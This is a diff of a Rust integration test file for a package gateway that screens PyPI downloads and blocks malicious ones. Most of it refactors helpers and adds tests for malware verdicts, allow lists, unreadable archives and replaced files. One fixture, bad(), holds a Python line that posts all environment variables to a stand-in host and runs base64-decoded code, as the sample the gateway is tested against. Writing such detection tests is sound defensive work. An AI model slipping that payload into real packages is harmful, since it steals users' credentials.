@@ -7,125 +7,13 @@
 mod archives;
 mod common;
 
-use std::io::{BufRead as _, BufReader, Read as _, Write as _};
+use std::io::{Read as _, Write as _};
 use std::net::TcpStream;
-use std::process::{Child, Stdio};
 use std::time::{Duration, Instant};
 
+use common::gateway::Running;
 use common::upstream::{Answer, Upstream, hex};
 use common::{Sandbox, root};
-
-/// A gateway in a process of its own, ended with the test.
-struct Running {
-    process: Child,
-    address: String,
-}
-
-impl Drop for Running {
-    fn drop(&mut self) {
-        let _ = self.process.kill();
-        let _ = self.process.wait();
-    }
-}
-
-/// What was answered.
-#[derive(Debug)]
-struct Got {
-    line: String,
-    head: String,
-    body: Vec<u8>,
-}
-
-impl Got {
-    fn status(&self) -> u16 {
-        self.line.split(' ').nth(1).unwrap().parse().unwrap()
-    }
-
-    fn header(&self, name: &str) -> Option<String> {
-        self.head.lines().find_map(|line| {
-            let (key, value) = line.split_once(": ")?;
-            key.eq_ignore_ascii_case(name).then(|| value.to_owned())
-        })
-    }
-
-    fn text(&self) -> String {
-        String::from_utf8_lossy(&self.body).into_owned()
-    }
-}
-
-impl Running {
-    fn start(sandbox: &Sandbox, upstream: &str, configuration: &str) -> Self {
-        let feed = root().join("examples/feeds");
-        Self::start_with(sandbox, upstream, configuration, feed.to_str().unwrap())
-    }
-
-    fn start_with(sandbox: &Sandbox, upstream: &str, configuration: &str, feed: &str) -> Self {
-        sandbox.write("hognose.toml", configuration);
-        let made = sandbox.command(&[]);
-        let mut command = std::process::Command::new(made.get_program());
-        command.env_clear().current_dir(sandbox.work());
-        for (name, value) in made.get_envs() {
-            if let Some(value) = value {
-                command.env(name, value);
-            }
-        }
-        let mut process = command
-            .env_remove("PIP_NO_INDEX")
-            .env("VIRTUAL_ENV", sandbox.work())
-            .args([
-                "gateway",
-                "--listen",
-                "127.0.0.1:0",
-                "--index-url",
-                upstream,
-            ])
-            .arg("--feed")
-            .arg(feed)
-            .stderr(Stdio::piped())
-            .spawn()
-            .unwrap();
-        let mut lines = BufReader::new(process.stderr.take().unwrap()).lines();
-        let address = lines
-            .by_ref()
-            .map_while(Result::ok)
-            .find_map(|line| {
-                let rest = line.split("http://").nth(1)?;
-                Some(rest.split('/').next()?.to_owned())
-            })
-            .unwrap();
-        // What it says later must not fill the pipe.
-        std::thread::spawn(move || lines.count());
-        Self { process, address }
-    }
-
-    fn ask(&self, path: &str, headers: &str) -> Got {
-        self.raw(&format!(
-            "GET {path} HTTP/1.1\r\nHost: {}\r\n{headers}Connection: close\r\n\r\n",
-            self.address
-        ))
-    }
-
-    fn raw(&self, request: &str) -> Got {
-        let mut stream = TcpStream::connect(&self.address).unwrap();
-        stream
-            .set_read_timeout(Some(Duration::from_mins(1)))
-            .unwrap();
-        stream.write_all(request.as_bytes()).unwrap();
-        let mut all = Vec::new();
-        let _ = stream.read_to_end(&mut all);
-        let end = all
-            .windows(4)
-            .position(|w| w == b"\r\n\r\n")
-            .unwrap_or(all.len());
-        let head = String::from_utf8_lossy(&all[..end]).into_owned();
-        let (line, head) = head.split_once("\r\n").unwrap_or((&head, ""));
-        Got {
-            line: line.to_owned(),
-            head: head.to_owned(),
-            body: all.get(end + 4..).unwrap_or_default().to_vec(),
-        }
-    }
-}
 
 const JSON: &str = "Accept: application/vnd.pypi.simple.v1+json\r\n";
 /// Long before the time of every test.
@@ -142,6 +30,8 @@ fn bad() -> Vec<u8> {
     let text = "import os, json, base64, urllib.request\nurllib.request.urlopen('http://example.invalid/c', data=base64.b64encode(json.dumps(dict(os.environ)).encode()))\nexec(base64.b64decode('cHJpbnQoMSk='))\n";
     archives::wheel("good", "3.0", &[("good/__init__.py", text.to_owned())], "")
 }
+
+const CONDEMNED: &str = r#"{"id":"MAL-2026-1","modified":"2026-11-18T00:00:00Z","summary":"takes what it finds","affected":[{"package":{"ecosystem":"PyPI","name":"good"},"versions":["1.0"]}]}"#;
 
 struct Set {
     sandbox: Sandbox,
@@ -234,6 +124,7 @@ fn pages_in_every_form() {
     assert_eq!(moved.header("location").as_deref(), Some("/simple/good/"));
     let head = gateway.raw("HEAD /simple/good/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
     assert_eq!((head.status(), head.body.len()), (200, 0));
+    assert_eq!(head.header("content-length"), html.header("content-length"));
     assert_eq!(gateway.raw("POST /simple/good/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 0\r\n\r\n").status(), 405);
     assert_eq!(gateway.ask("/simple/nobody/", "").status(), 404);
     // The upstream was asked once for each project, whatever was asked of us.
@@ -445,7 +336,7 @@ fn what_has_another_digest_is_never_whole() {
             got.line
         );
         // Nothing of it was kept.
-        let kept = walk(&sandbox.cache().join("artifacts"));
+        let kept = walk(&sandbox.cache().join("blobs"));
         assert!(kept.is_empty(), "{kept:?}");
     }
 }
@@ -524,8 +415,7 @@ fn what_new_advisories_condemn_is_served_no_more() {
     let path = Set::path("1.0", &set.old);
     assert_eq!(gateway.ask(&path, "").status(), 200);
     let before = gateway.ask("/simple/good/", JSON).header("etag");
-    let advisory = r#"{"id":"MAL-2026-1","modified":"2026-11-18T00:00:00Z","summary":"takes what it finds","affected":[{"package":{"ecosystem":"PyPI","name":"good"},"versions":["1.0"]}]}"#;
-    std::fs::write(format!("{feed}/MAL-2026-1.json"), advisory).unwrap();
+    std::fs::write(format!("{feed}/MAL-2026-1.json"), CONDEMNED).unwrap();
     let updated = set.sandbox.run(&["db", "update", "--feed", &feed]);
     assert_eq!(updated.code, 0, "{}", updated.whole());
     let began = Instant::now();
@@ -569,6 +459,131 @@ fn links_to_the_machine_s_own_link_are_not_followed() {
         "{}",
         got.text()
     );
+}
+
+#[test]
+fn a_verdict_counts_on_every_page_at_once() {
+    let set = Set::new();
+    let bytes = bad();
+    set.upstream
+        .project("twin", &[("twin-3.0-py3-none-any.whl", &bytes, OLD)]);
+    let gateway = set.start();
+    // The page of the one is decided before the bytes of the other are read.
+    assert_eq!(gateway.ask("/simple/twin/", JSON).status(), 200);
+    assert_eq!(gateway.ask(&Set::path("3.0", &bytes), "").status(), 403);
+    let twin = format!("/files/twin/{}/twin-3.0-py3-none-any.whl", hex(&bytes));
+    let got = gateway.ask(&twin, "");
+    assert!(got.line.contains("HOG-MAL-"), "{}", got.line);
+    let metadata = gateway.ask(&format!("{twin}.metadata"), "");
+    assert_eq!(metadata.status(), 403, "{}", metadata.line);
+}
+
+#[test]
+fn a_version_counts_however_it_is_spelled() {
+    let set = Set::new();
+    let bytes = archives::wheel("good", "1.0.0", &[("good.py", "X = 1\n".to_owned())], "");
+    set.upstream
+        .project("good", &[("good-1.0.0-py3-none-any.whl", &bytes, OLD)]);
+    let feed = set.sandbox.work().join("feed");
+    copy(&root().join("examples/feeds"), &feed);
+    std::fs::write(feed.join("MAL-2026-1.json"), CONDEMNED).unwrap();
+    let feed = feed.to_str().unwrap();
+    let gateway = Running::start_with(&set.sandbox, &set.upstream.url(), "", feed);
+    let got = gateway.ask(&Set::path("1.0.0", &bytes), "");
+    assert!(got.line.contains("HOG-MAL-known"), "{}", got.line);
+    let page = gateway.ask("/simple/good/", JSON);
+    assert_eq!(page.header("x-hognose-withheld").as_deref(), Some("1.0.0"));
+}
+
+#[test]
+fn the_list_of_what_is_let_in_is_not_for_malware() {
+    let set = Set::new();
+    let configuration = "[gateway]\nallow = [\"good\"]\n";
+    let gateway = Running::start(&set.sandbox, &set.upstream.url(), configuration);
+    let young = gateway.ask(&Set::path("2.0", &good("2.0")), "");
+    assert_eq!(young.status(), 200, "{}", young.line);
+    let malicious = gateway.ask(&Set::path("3.0", &bad()), "");
+    assert!(malicious.line.contains("HOG-MAL-"), "{}", malicious.line);
+}
+
+#[test]
+fn what_cannot_be_read_is_not_let_in() {
+    let set = Set::new();
+    let noise = b"PK\x03\x04 this is no archive".to_vec();
+    let name = "good-1.0-py3-none-any.whl";
+    set.upstream.project("good", &[(name, &noise, OLD)]);
+    let path = Set::path("1.0", &noise);
+    let gateway = set.start();
+    let got = gateway.ask(&path, "");
+    assert!(got.line.contains("HOG-GAP-unreadable"), "{}", got.line);
+    drop(gateway);
+    let lenient = "[gateway]\non-unknown = \"allow\"\n";
+    let gateway = Running::start(&set.sandbox, &set.upstream.url(), lenient);
+    assert_eq!(gateway.ask(&path, "").status(), 200);
+}
+
+#[test]
+fn a_failing_upstream_is_left_alone() {
+    let set = Set::new();
+    set.upstream.put("/simple/broken/", Answer::status(403));
+    let gateway = set.start();
+    std::thread::scope(|scope| {
+        for _ in 0..20 {
+            scope.spawn(|| assert_eq!(gateway.ask("/simple/broken/", JSON).status(), 503));
+        }
+    });
+    let seen = set.upstream.seen();
+    assert_eq!(seen.len(), 1, "{seen:?}");
+}
+
+#[test]
+fn a_file_that_was_exchanged_is_an_incident() {
+    let set = Set::new();
+    let path = Set::path("1.0", &set.old);
+    let gateway = set.start();
+    assert_eq!(gateway.ask(&path, "").status(), 200);
+    drop(gateway);
+    let other = archives::wheel("good", "1.0", &[("good.py", "X = 2\n".to_owned())], "");
+    set.upstream
+        .project("good", &[("good-1.0-py3-none-any.whl", &other, OLD)]);
+    let fresh = "[gateway]\nfresh = \"1s\"\n";
+    let gateway = Running::start(&set.sandbox, &set.upstream.url(), fresh);
+    let exchanged = Set::path("1.0", &other);
+    let got = gateway.ask(&exchanged, "");
+    assert!(got.line.contains("HOG-ID-replaced"), "{}", got.line);
+    // Pages say so from then on, and the log for ever.
+    let page = gateway.ask("/simple/good/", JSON);
+    assert_eq!(page.header("x-hognose-withheld").as_deref(), Some("1.0"));
+    let metadata = gateway.ask(&format!("{exchanged}.metadata"), "");
+    assert_eq!(metadata.status(), 403);
+    let log = ["gateway", "audit", "--kind", "replaced"];
+    let began = Instant::now();
+    while set.sandbox.run(&log).code != 0 {
+        assert!(began.elapsed() < Duration::from_secs(10));
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    let told = set.sandbox.run(&log).stdout;
+    assert!(told.contains(&hex(&set.old)[..12]), "{told}");
+    drop(gateway);
+    // Somebody has looked, and lets it in.
+    let looked = "[gateway]\nallow = [\"good==1.0\"]\n";
+    let gateway = Running::start(&set.sandbox, &set.upstream.url(), looked);
+    assert_eq!(gateway.ask(&exchanged, "").status(), 200);
+}
+
+#[test]
+fn observing_shows_pages_as_they_are() {
+    let set = Set::new();
+    let observe = "[gateway]\nmode = \"observe\"\n";
+    let gateway = Running::start(&set.sandbox, &set.upstream.url(), observe);
+    let page = gateway.ask("/simple/good/", JSON);
+    // What would be withheld is told all the same.
+    assert_eq!(page.header("x-hognose-withheld").as_deref(), Some("2.0"));
+    let page: serde_json::Value = serde_json::from_slice(&page.body).unwrap();
+    assert_eq!(page["files"][1]["yanked"], false);
+    assert_eq!(page["files"][1]["core-metadata"], true);
+    let young = gateway.ask(&Set::path("2.0", &good("2.0")), "");
+    assert_eq!(young.status(), 200, "{}", young.line);
 }
 
 fn walk(folder: &std::path::Path) -> Vec<String> {
